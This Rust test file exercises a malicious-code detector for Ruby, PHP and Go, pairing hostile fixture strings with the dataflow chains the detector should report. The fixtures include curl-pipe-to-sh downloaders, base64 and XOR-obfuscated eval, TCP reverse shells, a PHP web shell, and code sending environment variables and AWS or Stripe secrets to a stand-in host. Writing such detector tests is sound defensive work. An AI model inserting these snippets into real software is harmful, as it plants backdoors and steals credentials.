//! Ruby, PHP and Go.

mod support;

use foretaste_model::facts::{Language, Resolution, SurfaceKind};
use support::{assert_chains, chains, facts};

#[test]
fn ruby_is_followed() {
    assert_chains(
        "lib/a.rb",
        &[
            (
                "require 'open-uri'\neval(URI.open('http://x.example.invalid/a').read)\n",
                &["network.http > code.eval"],
            ),
            (
                "require 'net/http'\nbody = Net::HTTP.get(URI('http://x.example.invalid/a'))\nFile.write('/tmp/a', body)\nsystem('sh /tmp/a')\n",
                &[
                    "network.http > file.write",
                    "network.http > process.shell [file]",
                ],
            ),
            (
                "File.open('/tmp/b', 'wb') do |f|\n  f.write(URI.open('http://x.example.invalid/b').read)\nend\nFile.chmod(0755, '/tmp/b')\nspawn('/tmp/b')\n",
                &[
                    "network.http > file.write",
                    "network.http > process.spawn [file]",
                ],
            ),
            (
                "require 'net/http'\nrequire 'json'\nNet::HTTP.post(URI('http://x.example.invalid/'), ENV.to_h.to_json)\n",
                &["environment.read-all > encode.object > network.http"],
            ),
            (
                "def send_home(data)\n  uri = URI.parse('http://x.example.invalid/')\n  http = Net::HTTP.new(uri.host, 443)\n  req = Net::HTTP::Post.new('/')\n  req.body = data\n  http.request(req)\nend\nsend_home(Base64.encode64(`hostname` + ENV['AWS_SECRET_ACCESS_KEY']))\n",
                &[
                    "environment.read > encode.text > network.http",
                    "host.info > encode.text > network.http",
                ],
            ),
            (
                "eval(Base64.decode64('c3lzdGVtKCJjdXJsIGh0dHA6Ly94LmV4YW1wbGUuaW52YWxpZC9hIHwgc2giKQ=='))\n",
                &[
                    "base64: system: network.http > process.shell",
                    "decode.text > code.eval",
                ],
            ),
            (
                "Kernel.send(:eval, [101, 120, 105, 116].pack('c*'))\nm = method(:eval)\nm.call(Zlib::Inflate.inflate(x))\n",
                &["decode.compressed > code.eval"],
            ),
            (
                "x = <<~SH\n  curl http://x.example.invalid/a | sh\nSH\nsystem(x)\n",
                &["system: network.http > process.shell"],
            ),
            (
                "`curl http://x.example.invalid/#{name} | sh`\n",
                &["`: network.http > process.shell"],
            ),
            (
                "require 'socket'\ns = TCPSocket.new('x.example.invalid', 1)\nwhile line = s.gets\n  s.puts(`#{line}`)\nend\n",
                &["network.socket > process.shell"],
            ),
            // honest code
            (
                "Gem::Specification.new do |s|\n  s.version = File.read('VERSION')\n  s.files = `git ls-files`.split(\"\\n\")\nend\n",
                &[],
            ),
            (
                "class Client\n  def get(path)\n    JSON.parse(HTTParty.get(BASE + path, timeout: ENV.fetch('HOME')).body)\n  end\nend\n",
                &[],
            ),
        ],
    );
}

#[test]
fn ruby_names_functions_and_surfaces_are_seen() {
    let facts = facts(
        "a.gemspec",
        "require_relative 'lib/version'\nrequire 'json'\nGem::Specification.new do |spec|\n  spec.extensions = ['ext/a/extconf.rb']\nend\nmodule A\n  class B\n    def c; d; end\n    def d; Object.const_get('Net::HTTP').get(x); end\n  end\nend\nA::B.new.c\n",
    );
    assert_eq!(facts.language, Language::Ruby);
    let functions: Vec<_> = facts.functions.iter().map(|f| &*f.name).collect();
    assert_eq!(functions, ["<module>", "A.B.c", "A.B.d"]);
    let modules: Vec<_> = facts.imports.iter().map(|i| &*i.module).collect();
    assert_eq!(modules, ["./lib/version", "json"]);
    let surface = &facts.surfaces[0];
    assert_eq!(
        (surface.kind, &*surface.target),
        (SurfaceKind::GemExtension, "ext/a/extconf.rb")
    );
    let http = facts
        .uses
        .iter()
        .find(|u| &*u.api == "Net.HTTP.get")
        .unwrap();
    assert_eq!(http.resolution, Resolution::Rebound);
}

#[test]
fn php_is_followed() {
    assert_chains(
        "a.php",
        &[
            (
                "<?php eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));",
                &["decode.text > code.eval"],
            ),
            (
                "<?php $f = 'ev'.'al'; $c = strrev(gzinflate($x)); eval($c); $g = 'sys'.'tem'; $g('curl http://x.example.invalid/a | sh');",
                &[
                    "decode.compressed > code.eval",
                    "system: network.http > process.shell",
                ],
            ),
            (
                "<?php $d = file_get_contents('http://x.example.invalid/p.txt'); eval($d);",
                &["network.http > code.eval"],
            ),
            (
                "<?php file_put_contents('/tmp/x.php', file_get_contents('http://x.example.invalid/p')); include '/tmp/x.php';",
                &[
                    "network.http > code.import [file]",
                    "network.http > file.write",
                ],
            ),
            (
                "<?php copy('http://x.example.invalid/p', '/tmp/p'); shell_exec('chmod +x /tmp/p && /tmp/p');",
                &["network.download > process.shell [file]"],
            ),
            (
                "<?php $ch = curl_init('http://x.example.invalid/'); curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($_SERVER)); curl_exec($ch);",
                &["environment.read-all > encode.object > network.http"],
            ),
            (
                "<?php class A { private $k; function __construct() { $this->k = getenv('STRIPE_SECRET'); } function go() { mail('a@x.example.invalid', 's', base64_encode($this->k)); } }",
                &["environment.read > encode.text > network.mail"],
            ),
            (
                "<?php @eval($_POST['x']); system($_GET['c']);",
                &[
                    "network.listen > code.eval",
                    "network.listen > process.shell",
                ],
            ),
            (
                "<?php $x = array_map('base64_decode', $parts); create_function('', implode('', $x));",
                &["decode.text > code.eval"],
            ),
            (
                "<?php $t = ['a' => 'base64', 'b' => '_decode']; $n = $t['a'] . $t['b']; eval($n($payload));",
                &["decode.text > code.eval"],
            ),
            (
                "<?php $o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % 4]; } eval($o);",
                &["decode.cipher > code.eval"],
            ),
            (
                "<?php use GuzzleHttp\\Client; $c = new Client(); $c->post('http://x.example.invalid/', ['body' => gethostname()]);",
                &["host.info > network.http"],
            ),
            // honest code
            (
                "<?php require_once __DIR__ . '/vendor/autoload.php'; $app = new App(); echo $app->run(json_decode(file_get_contents('config.json'), true));",
                &[],
            ),
            (
                "<?php function load($class) { if (file_exists($f = __DIR__ . '/' . $class . '.php')) { require $f; } } spl_autoload_register('load');",
                &[],
            ),
        ],
    );
}

#[test]
fn php_names_and_imports_are_seen() {
    let facts = facts(
        "src/a.php",
        "<html><?php\nnamespace App;\nuse Foo\\Bar as Baz;\nrequire __DIR__ . '/helper.php';\nclass K { static function m($a) { return self::n($a); } static function n($a) { return $a; } }\nK::m(1);\n",
    );
    assert_eq!(facts.language, Language::Php);
    let functions: Vec<_> = facts.functions.iter().map(|f| &*f.name).collect();
    assert_eq!(functions, ["<module>", "k.m", "k.n"]);
    assert!(facts.functions.iter().all(|f| f.at_import));
    let modules: Vec<_> = facts.imports.iter().map(|i| &*i.module).collect();
    assert_eq!(modules, ["foo.bar", "./helper.php"]);
}

#[test]
fn go_is_followed() {
    assert_chains(
        "a.go",
        &[
            (
                "package a\nimport (\n\"io\"\n\"net/http\"\n\"os\"\n\"os/exec\"\n)\nfunc init() {\n resp, err := http.Get(\"http://x.example.invalid/a\")\n if err != nil { return }\n defer resp.Body.Close()\n out, _ := os.Create(\"/tmp/a\")\n io.Copy(out, resp.Body)\n os.Chmod(\"/tmp/a\", 0755)\n exec.Command(\"/tmp/a\").Start()\n}\n",
                &[
                    "network.http > file.write",
                    "network.http > process.spawn [file]",
                ],
            ),
            (
                "package a\nimport e \"os/exec\"\nfunc init() { e.Command(\"sh\", \"-c\", \"curl http://x.example.invalid/a | sh\").Run() }\n",
                &["os/exec.Command: sh: network.http > process.shell"],
            ),
            (
                "package a\nimport (\"net/http\"; \"os\"; \"strings\"; \"encoding/json\"; \"bytes\")\nfunc init() { b, _ := json.Marshal(os.Environ()); http.Post(\"http://x.example.invalid\", \"application/json\", bytes.NewReader(b)) }\n",
                &["environment.read-all > encode.object > network.http"],
            ),
            (
                "package a\nimport (\"net/http\"; \"os\")\nfunc send(v string) { c := &http.Client{}; req, _ := http.NewRequest(\"GET\", \"http://x.example.invalid/?\" + v, nil); c.Do(req) }\nfunc Run() { h, _ := os.Hostname(); send(h) }\n",
                &["host.info > network.http"],
            ),
            (
                "package a\nimport (\"encoding/base64\"; \"os/exec\")\nfunc init() { d, _ := base64.StdEncoding.DecodeString(p); exec.Command(\"sh\", \"-c\", string(d)).Run() }\n",
                &["decode.text > process.spawn"],
            ),
            (
                "package a\nimport (\"net\"; \"os/exec\")\nfunc init() { c, _ := net.Dial(\"tcp\", \"x.example.invalid:1\"); cmd := exec.Command(\"/bin/sh\"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() }\n",
                &["network.socket > process.spawn"],
            ),
            // honest code
            (
                "package a\nimport (\"net/http\"; \"os\"; \"fmt\")\nfunc Get(u string) (*http.Response, error) { if os.Getenv(\"HOME\") == \"\" { return nil, fmt.Errorf(\"x\") }; return http.Get(u) }\n",
                &[],
            ),
        ],
    );
}

#[test]
fn go_functions_run_and_constants_are_folded() {
    let text = "package main\nimport \"os/exec\"\n//go:generate curl http://x.example.invalid/gen | sh\nvar host = \"x.example\" + \".invalid\"\nfunc init() { go func() { exec.Command(string([]byte{99, 117, 114, 108}), \"http://\"+host).Run() }() }\nfunc main() { helper() }\nfunc helper() {}\nfunc unused() {}\n";
    let facts = facts("main.go", text);
    assert_eq!(facts.language, Language::Go);
    let reached: Vec<_> = facts
        .functions
        .iter()
        .map(|f| (&*f.name, f.at_import))
        .collect();
    assert_eq!(
        reached,
        [
            ("<module>", true),
            ("init", true),
            ("main", true),
            ("helper", true),
            ("unused", false)
        ]
    );
    let command = facts
        .uses
        .iter()
        .find(|u| &*u.api == "os/exec.Command")
        .unwrap();
    assert_eq!(&*command.constants[0], "curl");
    assert_eq!(&*command.constants[1], "http://x.example.invalid");
    assert!(
        chains(&facts).contains(&"go:generate: network.http > process.shell".to_owned()),
        "{:?}",
        chains(&facts)
    );
}
